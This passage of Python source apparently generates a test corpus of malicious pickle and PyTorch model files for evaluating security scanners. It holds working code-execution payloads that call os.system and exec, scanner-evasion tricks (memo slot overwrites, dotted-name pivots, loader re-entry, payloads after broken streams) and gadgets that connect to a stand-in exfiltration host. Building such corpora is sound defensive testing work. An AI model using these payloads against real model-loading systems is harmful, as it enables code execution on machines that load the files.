        lambda m: Call(builtin("list"), (NewObj(builtin("map"), (system, [m.sh]), {}),)),
        Asm(5, frame=True),
    )

    # BUILD with a (None, slots) state setattr()s __setstate__ onto a plain instance; a
    # second BUILD then calls it.
    def setstate(m: Marker) -> Any:
        ns = Call(G("argparse", "Namespace"))
        return Build(Build(ns, {"__setstate__": system}), m.sh)

    def setstate_slots(m: Marker) -> Any:
        ns = Call(G("types", "SimpleNamespace"))
        return Build(Build(ns, (None, {"__setstate__": system})), m.sh)

    every("build_setstate_dict_p2", setstate, Asm(2))
    every("build_setstate_dict_p4", setstate, Asm(4))
    every("build_setstate_slots_p2", setstate_slots, Asm(2))
    every("build_setstate_slots_p0", setstate_slots, Asm(0))

    # The extension registry, filled in by the stream itself, then EXT1/EXT2/EXT4.
    for op, code in (("ext1", 0xF1), ("ext2", 0xF1F1), ("ext4", 0x7F1F1F1F)):

        def ext(m: Marker, code: int = code) -> Any:
            return Seq(
                (
                    Call(G("copyreg", "add_extension"), ("os", "system", code)),
                    Call(Ext(code), (m.sh,)),
                )
            )

        every(f"{op}_registered_p2", ext, Asm(2))
    every("ext1_unregistered_p2", lambda m: Call(Ext(0x42), (m.sh,)), Asm(2), global_only=False)
    # A persistent id computed by a call: the call runs before persistent_load.
    every(
        "binpersid_of_call_p2",
        lambda m: Pid(Call(system, (m.sh,))),
        Asm(2),
        global_only=False,
    )
    every(
        "persid_after_call_p0",
        lambda m: Seq((Call(system, (m.sh,)), Pid("storage"))),
        Asm(0),
        global_only=False,
    )


# ================================================================== P4-P5: obfuscation


def add_p4(c: Corpus) -> None:
    def raw(name: str, make: Callable[[Marker], bytes], globals_: tuple[str, ...]) -> None:
        data = make(c.marker(name))
        c.add(Sample(name, "P4", data, ".pkl", PICKLE, globals_))

    def sh(m: Marker, asm: Asm) -> bytes:
        return asm.string(m.sh)

    a0, a2, a4 = Asm(0), Asm(2), Asm(4)
    # The same global stored with PUT, BINPUT and MEMOIZE, then fetched back and called.
    raw(
        "p4_put_get_p0",
        lambda m: b"cos\nsystem\np7\n0g7\n(" + sh(m, a0) + b"tR.",
        ("os.system",),
    )
    raw(
        "p4_binput_binget_p2",
        lambda m: b"\x80\x02cos\nsystem\nq\x070h\x07" + sh(m, a2) + b"\x85R.",
        ("os.system",),
    )
    raw(
        "p4_long_binput_p2",
        lambda m: (
            b"\x80\x02cos\nsystem\nr\x00\x01\x00\x000j\x00\x01\x00\x00" + sh(m, a2) + b"\x85R."
        ),
        ("os.system",),
    )
    raw(
        "p4_memoize_get_p4",
        lambda m: b"\x80\x04\x8c\x02os\x8c\x06system\x93\x940h\x00" + sh(m, a4) + b"\x85R.",
        ("os.system",),
    )
    raw(
        "p4_mixed_put_binput_memoize_p4",
        lambda m: (
            b"\x80\x04\x8c\x02os\x94\x8c\x06systemq\x05p9\n00h\x00g9\n\x93" + sh(m, a4) + b"\x85R."
        ),
        (),
    )
    # STACK_GLOBAL operands both fetched from the memo, stored far apart.
    raw(
        "p4_stack_global_operands_from_memo_p4",
        lambda m: (
            b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94N0N000h\x00h\x01\x93" + sh(m, a4) + b"\x85R."
        ),
        (),
    )
    # A benign global memoized first, then the slot overwritten with os.system: a
    # scanner that tracks the first assignment sees OrderedDict (type confusion).
    raw(
        "p4_slot_overwritten_p2",
        lambda m: (
            b"\x80\x02ccollections\nOrderedDict\nq\x000cos\nsystem\nq\x000h\x00"
            + sh(m, a2)
            + b"\x85R."
        ),
        ("os.system",),
    )
    raw(
        "p4_slot_overwritten_memoize_p4",
        lambda m: (
            b"\x80\x04\x8c\x0bcollections\x8c\x0bOrderedDict\x93\x940"
            b"\x8c\x02os\x8c\x06system\x93q\x000h\x00" + sh(m, a4) + b"\x85R."
        ),
        ("os.system",),
    )
    # keyerror-exploit: the payload runs, then a GET of a slot that was never stored.
    raw(
        "p4_get_missing_key_after_payload_p2",
        lambda m: b"\x80\x02cos\nsystem\n" + sh(m, a2) + b"\x85R0h\x63.",
        ("os.system",),
    )
    raw(
        "p4_get_missing_key_after_payload_p0",
        lambda m: b"cos\nsystem\n(" + sh(m, a0) + b"tR0g99\n.",
        ("os.system",),
    )
    # A memo entry of the wrong type: a string where a callable is expected, then the
    # real callable under the same slot.
    raw(
        "p4_wrong_type_memo_entry_p2",
        lambda m: (
            b"\x80\x02X\x06\x00\x00\x00systemq\x010cos\nsystem\nq\x010h\x01" + sh(m, a2) + b"\x85R."
        ),
        ("os.system",),
    )
    raw(
        "p4_memo_holds_args_tuple_p2",
        lambda m: b"\x80\x02" + sh(m, a2) + b"\x85q\x030cos\nsystem\nh\x03R.",
        ("os.system",),
    )


def add_p5(c: Corpus) -> None:
    system = G("os", "system")
    for style in ("string", "binstring", "short_binstring", "unicode", "binunicode8"):
        for proto in (4, 5):
            asm = Asm(proto, sg_style=style, frame=proto == 5)
            c.add_pickle(
                "P5", f"p5_stack_global_from_{style}_p{proto}", lambda m: Call(system, (m.sh,)), asm
            )
    asm = Asm(4, sg_style="string")
    c.add_pickle(
        "P5", "p5_stack_global_from_string_exec", lambda m: Call(builtin("exec"), (m.py,)), asm
    )
    # STACK_GLOBAL operands mixed: module from STRING, name from BINUNICODE8.
    name = "p5_stack_global_mixed_string_kinds_p4"
    m = c.marker(name)
    data = (
        b"\x80\x04S'os'\n"
        + Asm(4).string("system", "binunicode8")
        + STACK_GLOBAL
        + Asm(4).string(m.sh, "binstring")
        + TUPLE1
        + REDUCE
        + STOP
    )
    c.add(Sample(name, "P5", data, ".pkl", PICKLE, ("os.system",)))


# ================================================================== P6: getattr chains


def p6_payloads() -> dict[str, Callable[[Marker], Any]]:
    os_mod = Call(G("importlib", "import_module"), ("os",))
    return {
        "getattr_import_module": lambda m: Call(getattr_(os_mod, "system"), (m.sh,)),
        "attrgetter": lambda m: Call(
            Call(Call(G("operator", "attrgetter"), ("system",)), (os_mod,)), (m.sh,)
        ),
        "methodcaller": lambda m: Call(
            Call(G("operator", "methodcaller"), ("system", m.sh)), (os_mod,)
        ),
        "itemgetter_sys_modules": lambda m: Call(
            Call(G("operator", "methodcaller"), ("system", m.sh)),
            (Call(Call(G("operator", "itemgetter"), ("os",)), (G("sys", "modules"),)),),
        ),
        "pydoc_locate": lambda m: Call(Call(G("pydoc", "locate"), ("os.system",)), (m.sh,)),
        "pkgutil_resolve_name": lambda m: Call(
            Call(G("pkgutil", "resolve_name"), ("os:system",)), (m.sh,)
        ),
        "pkgutil_resolve_name_dotted": lambda m: Call(
            Call(G("pkgutil", "resolve_name"), ("subprocess.getoutput",)), (m.sh,)
        ),
        "functools_partial": lambda m: Call(
            Call(G("functools", "partial"), (G("os", "system"), m.sh))
        ),
        "operator_call": lambda m: Call(G("operator", "call"), (G("os", "system"), m.sh)),
        "importlib_dunder_import": lambda m: Call(
            getattr_(Call(G("importlib", "__import__"), ("os",)), "system"), (m.sh,)
        ),
        "importlib_bootstrap_gcd_import": lambda m: Call(
            getattr_(Call(G("importlib._bootstrap", "_gcd_import"), ("os",)), "system"), (m.sh,)
        ),
        "builtins_vars_getitem": lambda m: Call(
            Call(G("_operator", "getitem"), (Call(builtin("vars"), (import_("os"),)), "system")),
            (m.sh,),
        ),
    }


def add_p6(c: Corpus) -> None:
    for label, build in p6_payloads().items():
        for proto in (2, 4):
            asm = Asm(proto)
            c.add_pickle(
                "P6", f"p6_{label}_p{proto}_{'sg' if asm.stack_global else 'g'}", build, asm
            )
    for label in ("getattr_import_module", "pkgutil_resolve_name", "functools_partial"):
        c.add_pickle("P6", f"p6_{label}_p0_g", p6_payloads()[label], Asm(0))
        c.add_zip("P6", f"p6_{label}_zip", p6_payloads()[label])


# ================================================================== P7: pivots


def add_p7(c: Corpus) -> None:
    def add(name: str, build: Callable[[Marker], Any], asm: Asm, **kw: Any) -> None:
        c.add_pickle("P7", name, build, asm, global_only=False, **kw)

    # numpy.__builtins__ is a dict holding exec (modelscan#330).
    add(
        "p7_numpy_builtins_dict_p4",
        lambda m: Call(
            Call(G("_operator", "getitem"), (G("numpy", "__builtins__"), "exec")), (m.py,)
        ),
        Asm(4),
    )
    add(
        "p7_torch_builtins_dict_p2",
        lambda m: Call(
            Call(G("operator", "getitem"), (G("torch", "__builtins__"), "eval")), (m.py,)
        ),
        Asm(2),
    )
    # Dotted names walk from an allowlisted module to os (protocol >= 4 resolves them).
    add(
        "p7_dotted_torch_serialization_os_system_p4",
        lambda m: Call(G("torch", "serialization.os.system"), (m.sh,)),
        Asm(4),
    )
    add(
        "p7_dotted_collections_abc_sys_modules_p4",
        lambda m: Call(
            Call(G("operator", "methodcaller"), ("system", m.sh)),
            (Call(G("collections", "_sys.modules.get"), ("os",)),),
        ),
        Asm(4),
    )
    add(
        "p7_dotted_torch_utils_sys_modules_p4",
        lambda m: Call(
            Call(G("operator", "methodcaller"), ("system", m.sh)),
            (Call(G("torch._utils", "sys.modules.get"), ("os",)),),
        ),
        Asm(4),
    )

    # BUILD-setattr on an allowlisted module replaces an allowlisted function, which is
    # then fetched by its allowlisted name (modelscan#85).
    def build_setattr(m: Marker) -> Any:
        swap = Build(G("torch", "_utils"), (None, {"_rebuild_tensor_v2": G("os", "system")}))
        return Seq((swap, Call(G("torch._utils", "_rebuild_tensor_v2"), (m.sh,))))

    add("p7_build_setattr_module_p2", build_setattr, Asm(2))
    add("p7_build_setattr_module_p4", build_setattr, Asm(4))

    # BUILD-setattr of __code__ on an allowlisted function.
    def code_swap(m: Marker) -> Any:
        code = Call(G("marshal", "loads"), (code_object(m.py),))
        swap = Build(G("torch._utils", "_rebuild_parameter"), (None, {"__code__": code}))
        return Seq((swap, Call(G("torch._utils", "_rebuild_parameter"))))

    add("p7_build_setattr_code_swap_p4", code_swap, Asm(4))

    # sys.modules override: make "collections" resolve to os (sys_module_override_sploit).
    def modules_override(m: Marker) -> Any:
        override = SetItem(G("sys", "modules"), "collections", G("torch.serialization", "os"))
        return Seq((override, Call(G("collections", "system"), (m.sh,))))

    add("p7_sys_modules_override_p2", modules_override, Asm(2))
    add("p7_sys_modules_override_p4", modules_override, Asm(4))
    c.add_zip("P7", "p7_build_setattr_module_zip", build_setattr, global_only=False)


# ================================================================== P8: re-entering a loader


def torch_load_partial(m: Marker) -> Any:
    inner = torch_zip(Asm(2).dumps(Call(G("os", "system"), (m.sh,))))
    loader = Build(
        Call(G("functools", "partial"), (G("torch", "load"),)),
        (G("torch", "load"), (), {"weights_only": False}, None),
    )
    return Call(loader, (Call(G("io", "BytesIO"), (inner,)),))


def p8_payloads() -> dict[str, Callable[[Marker], Any]]:
    return {
        "pickle_loads": lambda m: Call(G("pickle", "loads"), (inner_pickle(m),)),
        "underscore_pickle_loads": lambda m: Call(G("_pickle", "loads"), (inner_pickle(m),)),
        "pickle_py_loads": lambda m: Call(G("pickle", "_loads"), (inner_pickle(m),)),
        "pickle_load_bytesio": lambda m: Call(
            G("pickle", "load"), (Call(G("io", "BytesIO"), (inner_pickle(m),)),)
        ),
        "torch_load_partial_weights_only_false": torch_load_partial,
        # torch.load reads this variable at call time and then skips weights_only.
        "torch_serialization_load_forced_unsafe": lambda m: Seq(
            (
                Call(
                    getattr_(G("os", "environ"), "__setitem__"),
                    ("TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD", "1"),
                ),
                Call(
                    G("torch.serialization", "load"),
                    (Call(G("io", "BytesIO"), (torch_zip(inner_pickle(m, proto=2)),)),),
                ),
            )
        ),
        "inductor_load_config": lambda m: Call(
            G("torch._inductor.config", "load_config"), (inner_pickle(m),)
        ),
        "dynamo_load_config": lambda m: Call(
            G("torch._dynamo.config", "load_config"), (inner_pickle(m),)
        ),
        "numpy_load_allow_pickle": lambda m: Call(
            G("numpy", "load"), (Call(G("io", "BytesIO"), (inner_pickle(m),)), None, True)
        ),
        "marshal_function_type": lambda m: Call(
            Call(
                G("types", "FunctionType"), (Call(G("marshal", "loads"), (code_object(m.py),)), {})
            )
        ),
        "shelve_open": lambda m: Call(G("shelve", "open"), (m.path,)),
    }


def add_p8(c: Corpus) -> None:
    for label, build in p8_payloads().items():
        for proto in (2, 4):
            c.add_pickle("P8", f"p8_{label}_p{proto}", build, Asm(proto))
    c.add_pickle("P8", "p8_pickle_loads_p0", p8_payloads()["pickle_loads"], Asm(0))
    c.add_pickle("P8", "p8_pickle_loads_p5", p8_payloads()["pickle_loads"], Asm(5, frame=True))
    for label in (
        "pickle_loads",
        "torch_load_partial_weights_only_false",
        "numpy_load_allow_pickle",
    ):
        c.add_zip("P8", f"p8_{label}_zip", p8_payloads()[label])


# ================================================================== P9: gadget sweep


def gadgets() -> dict[str, Callable[[Marker], Any]]:
    """picklescan's data2/GHSA-* set and its neighbours: one call per gadget."""

    def method(module: str, cls: str, meth: str, *args: Any, self_: Any = None) -> Call:
        # Dotted names resolve under protocol >= 4; the instance is made in the stream.
        inst = Call(G(module, cls)) if self_ is None else self_
        return Call(G(module, f"{cls}.{meth}"), (inst, *args))

    ns = Call(G("types", "SimpleNamespace"))
    return {
        "runpy_run_code": lambda m: Call(G("runpy", "_run_code"), (m.py, {})),
        "runpy_run_module_code": lambda m: Call(
            G("runpy", "_run_module_code"), (m.py, None, "payload")
        ),
        "cprofile_run": lambda m: Call(G("cProfile", "run"), (m.py,)),
        "cprofile_runctx": lambda m: Call(G("cProfile", "runctx"), (m.py, {}, {})),
        "profile_run": lambda m: Call(G("profile", "run"), (m.py,)),
        "trace_trace_runctx": lambda m: method("trace", "Trace", "runctx", m.py, {}, {}),
        "timeit_timeit_setup": lambda m: Call(G("timeit", "timeit"), ("pass", m.py)),
        "timeit_repeat": lambda m: Call(G("timeit", "repeat"), ("pass", m.py)),
        "bdb_bdb_run": lambda m: method("bdb", "Bdb", "run", m.py),
        # A debugger whose stdin says "continue" runs the statement unattended.
        "pdb_pdb_run": lambda m: method(
            "pdb",
            "Pdb",
            "run",
            m.py,
            self_=Call(
                G("pdb", "Pdb"),
                ("tab", Call(G("io", "StringIO"), ("continue\n",)), Call(G("io", "StringIO"))),
            ),
        ),
        "idlelib_calltip_get_entity": lambda m: Call(G("idlelib.calltip", "get_entity"), (m.py,)),
        "idlelib_autocomplete_get_entity": lambda m: method(
            "idlelib.autocomplete", "AutoComplete", "get_entity", m.py, self_=ns
        ),
        "idlelib_debugobj_settext": lambda m: method(
            "idlelib.debugobj", "ObjectTreeItem", "SetText", m.py, self_=ns
        ),
        "lib2to3_grammar_loads": lambda m: method(
            "lib2to3.pgen2.grammar", "Grammar", "loads", inner_pickle(m)
        ),
        "code_interactive_interpreter_runsource": lambda m: method(
            "code", "InteractiveInterpreter", "runsource", m.py
        ),
        "code_interactive_interpreter_runcode": lambda m: method(
            "code", "InteractiveInterpreter", "runcode", m.py
        ),
        "code_interactive_console_push": lambda m: method(
            "code", "InteractiveConsole", "push", m.py
        ),
        "ctypes_cdll": lambda m: Call(G("ctypes", "CDLL"), (m.path,)),
        "ctypes_cdll_loadlibrary": lambda m: Call(G("ctypes", "cdll.LoadLibrary"), (m.path,)),
        "asyncio_unix_subprocess_transport_start": lambda m: method(
            "asyncio.unix_events",
            "_UnixSubprocessTransport",
            "_start",
            m.sh,
            True,
            None,
            None,
            None,
            0,
            self_=ns,
        ),
        "distutils_file_util_write_file": lambda m: Call(
            G("distutils.file_util", "write_file"), (m.path, [])
        ),
        "distutils_spawn": lambda m: Call(G("distutils.spawn", "spawn"), (["touch", m.path],)),
        "setuptools_distutils_spawn": lambda m: Call(
            G("setuptools._distutils.spawn", "spawn"), (["touch", m.path],)
        ),
        "io_fileio": lambda m: Call(G("io", "FileIO"), (m.path, "w")),
        "underscore_io_open": lambda m: Call(G("_io", "open"), (m.path, "w")),
        "codecs_open": lambda m: Call(G("codecs", "open"), (m.path, "w")),
        "ssl_get_server_certificate": lambda m: Call(
            G("ssl", "get_server_certificate"), (("exfil.invalid", 443),)
        ),
        "socket_create_connection": lambda m: Call(
            G("socket", "create_connection"), (("exfil.invalid", 80),)
        ),
        "urllib_urlopen": lambda m: Call(
            G("urllib.request", "urlopen"), ("http://exfil.invalid/",)
        ),
        "inductor_codecache_compile_file": lambda m: Call(
            G("torch._inductor.codecache", "compile_file"), (m.path, m.path, ["touch", m.path])
        ),
        "torch_utils_collect_env_run": lambda m: Call(G("torch.utils.collect_env", "run"), (m.sh,)),
        # Imports <dir>/hubconf.py; live wherever the attacker can drop one.
        "torch_hub_load_local": lambda m: Call(
            G("torch.hub", "_load_local"), (str(Path(m.path).parent), "model")
        ),
        "numpy_f2py_crackfortran_myeval": lambda m: Call(
            G("numpy.f2py.crackfortran", "myeval"), (m.py,)
        ),
        "numpy_testing_runstring": lambda m: Call(
            G("numpy.testing._private.utils", "runstring"), (m.py, {})
        ),
        "pip_main": lambda m: Call(G("pip", "main"), (["list", "--log", m.path],)),
        "venv_create": lambda m: Call(G("venv", "create"), (m.path, False, False, True)),
        "mailcap_findmatch": lambda m: Call(
            G("mailcap", "findmatch"),
            ({"x/y": [{"view": "true", "test": m.sh}]}, "x/y"),
        ),
        "interpreters_run_string": lambda m: Call(
            G("_interpreters", "run_string"), (Call(G("_interpreters", "create")), m.py)
        ),
        "xxsubinterpreters_run_string": lambda m: Call(
            G("_xxsubinterpreters", "run_string"), (Call(G("_xxsubinterpreters", "create")), m.py)
        ),
        "pydoc_pipepager": lambda m: Call(G("pydoc", "pipepager"), ("", m.sh)),
        "pydoc_tempfilepager": lambda m: Call(G("pydoc", "tempfilepager"), ("", m.sh)),
        "osx_support_read_output": lambda m: Call(G("_osx_support", "_read_output"), (m.sh,)),
        "uuid_get_command_stdout": lambda m: Call(
            G("uuid", "_get_command_stdout"), ("touch", m.path)
        ),
        "tempfile_mkdtemp": lambda m: Call(
            G("tempfile", "mkdtemp"), ("", Path(m.path).name, str(Path(m.path).parent))
        ),
        "shutil_copyfile": lambda m: Call(G("shutil", "copyfile"), ("/dev/null", m.path)),
        "logging_config_dictconfig": lambda m: Call(
            G("logging.config", "dictConfig"),
            (
                {
                    "version": 1,
                    "handlers": {"h": {"class": "logging.FileHandler", "filename": m.path}},
                },
            ),
        ),
        "dbm_open": lambda m: Call(G("dbm", "open"), (m.path, "c")),
        "zipfile_zipfile": lambda m: Call(G("zipfile", "ZipFile"), (m.path, "w")),
        "tarfile_open": lambda m: Call(G("tarfile", "open"), (m.path, "w")),
        # Executes any .py file the attacker managed to put at that path.
        "imp_load_source": lambda m: Call(G("imp", "load_source"), ("payload", m.path)),
    }


def add_p9(c: Corpus) -> None:
    for label, build in gadgets().items():
        c.add_pickle("P9", f"p9_{label}", build, Asm(4))
    for label in ("runpy_run_code", "cprofile_run", "timeit_timeit_setup", "mailcap_findmatch"):
        c.add_pickle("P9", f"p9_{label}_p2", gadgets()[label], Asm(2), suffix=".pt")
    # torch writes protocol 2, so the zipped gadgets avoid dotted (protocol 4) names.
    for label in ("runpy_run_code", "cprofile_run", "torch_utils_collect_env_run", "io_fileio"):
        c.add_zip("P9", f"p9_{label}_zip", gadgets()[label])


# ================================================================== P10: stream layout


def add_p10(c: Corpus) -> None:
    system = G("os", "system")

    def raw(name: str, data: bytes, container: str = PICKLE, suffix: str = ".pkl") -> None:
        c.add(Sample(name, "P10", data, suffix, container, ("os.system",)))

    benign = pickle.dumps({"weight": [1.0, 2.0]}, protocol=2)
    name = "p10_benign_then_malicious_p2"
    raw(name, benign + Asm(2).dumps(Call(system, (c.marker(name).sh,))))
    name = "p10_benign_then_malicious_p4"
    raw(name, pickle.dumps([], protocol=4) + Asm(4).dumps(Call(system, (c.marker(name).sh,))))
    name = "p10_two_benign_then_malicious_p0"
    raw(
        name,
        pickle.dumps({}, 0)
        + pickle.dumps([], 0)
        + Asm(0).dumps(Call(system, (c.marker(name).sh,))),
        suffix=".pt",
    )
    # nullifAI: the payload runs, then the stream breaks before STOP.
    name = "p10_payload_then_bad_opcode_p2"
    raw(name, Asm(2).dumps(Call(system, (c.marker(name).sh,)), stop=False) + b"\xff\xfe\xfd")
    name = "p10_payload_then_truncated_p4"
    raw(name, Asm(4).dumps(Call(system, (c.marker(name).sh,)), stop=False) + b"\x8c\x40ab")
    name = "p10_payload_then_no_stop_p0"
    raw(name, Asm(0).dumps(Call(system, (c.marker(name).sh,)), stop=False))
    name = "p10_payload_then_7z_junk_p2"
    raw(
        name,
        Asm(2).dumps(Call(system, (c.marker(name).sh,)), stop=False) + b"7z\xbc\xaf\x27\x1c" * 4,
        suffix=".pt",
    )
    # Exception-oriented programming: the payload runs inside an expression that then
    # raises, for loaders that catch the error and fall back.
    name = "p10_eop_payload_then_raise_p2"
    raw(
        name,
        Asm(2).dumps(
            Seq((Call(system, (c.marker(name).sh,)), Call(builtin("int"), ("not a number",))))
        ),
    )
    name = "p10_eop_raise_in_getattr_default_p2"
    raw(
        name,
        Asm(2).dumps(
            Call(
                builtin("getattr"),
                (Call(builtin("object")), "missing", Call(system, (c.marker(name).sh,))),
            )
        ),
    )
    # Legacy format: every pickle but the main one is a place to hide a payload.
    for where in ("magic", "protocol", "sys_info", "keys"):
        name = f"p10_legacy_payload_in_{where}_pickle"
        payload = Asm(2).dumps(Call(system, (c.marker(name).sh,)))
        main = Asm(2).dumps(with_weight(1, legacy=True))
        hidden: dict[str, Any] = {where: payload}
        data = legacy_file(main, **hidden)
        c.add(Sample(name, "P10", data, ".pth", TORCH_LEGACY, ("os.system",)))
    name = "p10_legacy_malicious_pickle_after_storages"
    main = Asm(2).dumps(with_weight(1, legacy=True))
    tail = Asm(2).dumps(Call(system, (c.marker(name).sh,)))
    c.add(Sample(name, "P10", legacy_file(main, tail=tail), ".pth", TORCH_LEGACY, ("os.system",)))


# ================================================================== T1-T6: torch-specific


def add_t1(c: Corpus) -> None:
    cases: dict[str, dict[str, Any]] = {
        "offset_plus_extent_past_storage": {"offset": 3, "size": (4,)},
        "offset_past_storage": {"offset": 100, "size": (1,)},
        "negative_offset": {"offset": -1},
        "negative_size": {"size": (-1,)},
        "negative_stride": {"stride": (-1,)},
        "stride_reaches_past_storage": {"size": (3,), "stride": (2,)},
        "stride_overflows_extent": {"size": (2, 2), "stride": (2**62, 1)},
        "numel_overflow_int64": {"size": (2**31, 2**31, 2**31), "stride": (1, 1, 1)},
        "numel_times_itemsize_overflow": {"size": (2**61 + 1,), "stride": (1,)},
        "huge_offset": {"offset": 2**63 - 1, "size": (1,)},
        "size_stride_rank_mismatch": {"size": (2, 2), "stride": (1,)},
        "size_is_float": {"size": (4.0,)},
        "size_is_string": {"size": ("4",)},
        "size_is_not_a_tuple": {"size": 4},
    }
    for label, kw in cases.items():
        c.add_zip("T1", f"t1_{label}", const(rebuild_v2(**kw)), global_only=False)
    c.add_legacy(
        "T1",
        "t1_legacy_offset_plus_extent_past_storage",
        lambda m: rebuild_v2(offset=3, legacy=True),
        global_only=False,
    )
    c.add_zip(
        "T1",
        "t1_rebuild_parameter_over_oob_tensor",
        lambda m: Call(
            G("torch._utils", "_rebuild_parameter"),
            (rebuild_v2(offset=2, size=(8,)), True, Call(G("collections", "OrderedDict"))),
        ),
        global_only=False,
    )
    c.add_zip(
        "T1",
        "t1_rebuild_tensor_v1_past_storage",
        lambda m: Call(
            G("torch._utils", "_rebuild_tensor"),
            (Pid(("storage", G("torch", "FloatStorage"), "0", "cpu", 4)), 0, (64,), (1,)),
        ),
        global_only=False,
    )


def add_t2(c: Corpus) -> None:
    mismatch: dict[str, tuple[int, bytes]] = {
        "numel_larger_than_record": (5, FLOATS4),
        "numel_smaller_than_record": (3, FLOATS4),
        "numel_huge": (2**40, FLOATS4),
        "numel_overflows_nbytes": (2**62, FLOATS4),
        "numel_negative": (-4, FLOATS4),
        "record_empty": (4, b""),
        "record_odd_length": (4, FLOATS4 + b"\x00"),
    }
    for label, (numel, raw) in mismatch.items():
        c.add_zip(
            "T2",
            f"t2_{label}",
            const(rebuild_v2("1", numel=numel, size=(min(abs(numel), 4),))),
            storages={"1": raw},
            global_only=False,
        )
    c.add_zip("T2", "t2_record_missing", lambda m: rebuild_v2(key="1"), global_only=False)
    # Legacy storages: the numel written before the raw bytes disagrees with the pid.
    for label, storages in {
        "legacy_raw_numel_larger": (("0", 1000, FLOATS4),),
        "legacy_raw_truncated": (("0", 4, FLOATS4[:7]),),
        "legacy_raw_numel_negative": (("0", -1, FLOATS4),),
    }.items():
        name = f"t2_{label}"
        main = Asm(2).dumps(with_weight(1, legacy=True))
        c.add(Sample(name, "T2", legacy_file(main, storages), ".pth", TORCH_LEGACY))
    # SETITEM/SETITEMS/APPEND/APPENDS aimed at something that is not a dict or list.
    t = rebuild_v2()
    misuse: dict[str, Any] = {
        "setitem_on_tensor_oob": SetItem(t, 10**6, 1.0),
        "setitem_on_tensor": SetItem(t, 0, 9.0),
        "setitem_on_list": SetItem([1, 2], 0, 9),
        "setitem_on_tuple": SetItem((1, 2), 0, 9),
        "setitem_on_string": SetItem("abc", 0, "x"),
        "setitems_on_torch_size": SetItems(Call(G("torch", "Size"), ((4,),)), ((0, 9),)),
        "setitems_on_tensor": SetItems(t, ((0, 1.0), (10**9, 2.0))),
        "append_on_dict": Append({}, 1),
        "append_on_tensor": Append(t, 1.0),
        "appends_on_tensor": Appends(t, (1.0, 2.0)),
        "appends_on_ordereddict": Appends(Call(G("collections", "OrderedDict")), (1, 2)),
        "appends_on_string": Appends("abc", ("d",)),
    }
    for label, node in misuse.items():
        c.add_zip("T2", f"t2_{label}", const(node), global_only=False)


def add_t3(c: Corpus) -> None:
    def qtensor(stride: tuple[int, ...], size: tuple[int, ...] = (4,), offset: int = 0) -> Any:
        pid = ("storage", G("torch", "QUInt8Storage"), "1", "cpu", 4)
        params = (G("torch", "per_tensor_affine"), 0.1, 0)
        return Call(
            G("torch._utils", "_rebuild_qtensor"),
            (Pid(pid), offset, size, stride, params, False, Call(G("collections", "OrderedDict"))),
        )

    q = {"1": b"\x01\x02\x03\x04"}
    c.add_zip("T3", "t3_qtensor_huge_stride", lambda m: qtensor((2**40,)), storages=q)
    c.add_zip("T3", "t3_qtensor_negative_stride", lambda m: qtensor((-1,)), storages=q)
    c.add_zip("T3", "t3_qtensor_size_past_storage", lambda m: qtensor((1,), size=(64,)), storages=q)
    c.add_zip("T3", "t3_qtensor_offset_past_storage", lambda m: qtensor((1,), offset=9), storages=q)

    def long_tensor(key: str, numel: int, size: tuple[int, ...]) -> Any:
        return Call(
            G("torch._utils", "_rebuild_tensor_v2"),
            (
                Pid(("storage", G("torch", "LongStorage"), key, "cpu", numel)),
                0,
                size,
                tuple(int(x) for x in _strides(size)),
                False,
                Call(G("collections", "OrderedDict")),
            ),
        )

    def layout(name: str) -> Call:
        # What torch.save writes for a layout: a lookup by name.
        return Call(G("torch.serialization", "_get_layout"), (name,))

    def float_tensor(key: str, numel: int) -> Any:
        return rebuild_v2(key=key, numel=numel, size=(numel,))

    def sparse_coo(indices: Sequence[int], size: tuple[int, int]) -> Callable[[Marker], Any]:
        def build(m: Marker) -> Any:
            shape = Call(G("torch", "Size"), (size,))
            data = (long_tensor("1", 4, (2, 2)), float_tensor("2", 2), shape, False)
            return Call(
                G("torch._utils", "_rebuild_sparse_tensor"), (layout("torch.sparse_coo"), data)
            )

        return build

    def storages(indices: Sequence[int], values: int = 2) -> dict[str, bytes]:
        return {
            "1": struct.pack(f"<{len(indices)}q", *indices),
            "2": struct.pack(f"<{values}f", *range(values)),
        }

    for label, idx in {
        "sparse_coo_index_out_of_bounds": (0, 10**6, 0, 1),
        "sparse_coo_negative_index": (0, -5, 0, 1),
        "sparse_coo_index_2_pow_62": (0, 2**62, 0, 1),
    }.items():
        c.add_zip("T3", f"t3_{label}", sparse_coo(idx, (4, 4)), storages=storages(idx))

    def sparse_csr(m: Marker) -> Any:
        crow = long_tensor("1", 3, (3,))
        col = long_tensor("2", 2, (2,))
        values = rebuild_v2(key="3", numel=2, size=(2,))
        return Call(
            G("torch._utils", "_rebuild_sparse_tensor"),
            (layout("torch.sparse_csr"), (crow, col, values, Call(G("torch", "Size"), ((2, 4),)))),
        )

    c.add_zip(
        "T3",
        "t3_sparse_csr_crow_decreasing_col_oob",
        sparse_csr,
        storages={
            "1": struct.pack("<3q", 0, 5, 1),
            "2": struct.pack("<2q", 99, -7),
            "3": struct.pack("<2f", 1, 2),
        },
    )


def _strides(size: Sequence[int]) -> list[int]:
    out, acc = [], 1
    for s in reversed(size):
        out.append(acc)
        acc *= s
    return out[::-1]


def add_t4(c: Corpus) -> None:
    args = (
        Pid(("storage", G("torch", "FloatStorage"), "0", "cpu", 4)),
        0,
        (4,),
        (1,),
        False,
        Call(G("collections", "OrderedDict")),
    )
    func = G("torch._utils", "_rebuild_tensor_v2")
    from_type = G("torch._utils", "_rebuild_from_type_v2")
    cases: dict[str, Any] = {
        "from_type_module_with_setstate": Call(
            from_type, (func, G("torch.nn.modules.linear", "Linear"), args, {"training": True})
        ),
        "from_type_parameter_subclass_state": Call(
            from_type, (func, G("torch.nn.parameter", "Parameter"), args, {"x": 1})
        ),
        "from_type_foreign_class": Call(from_type, (func, G("argparse", "Namespace"), args, {})),
        "from_type_new_type_not_a_type": Call(from_type, (func, 42, args, {})),
        "from_type_new_type_missing": Call(from_type, (func, args, {})),
        "from_type_args_missing": Call(from_type, (func,)),
        "from_type_no_args_at_all": Call(from_type, ()),
        "from_type_func_not_rebuild": Call(
            from_type, (G("collections", "OrderedDict"), G("torch", "Tensor"), (), {})
        ),
        "wrapper_subclass_huge_size": Call(
            G("torch._utils", "_rebuild_wrapper_subclass"),
            (
                G("torch.nn.parameter", "Parameter"),
                G("torch", "float32"),
                (2**40,),
                (1,),
                0,
                G("torch", "strided"),
                "cpu",
                False,
            ),
        ),
        "newobj_parameter_never_built": NewObj(G("torch.nn.parameter", "Parameter")),
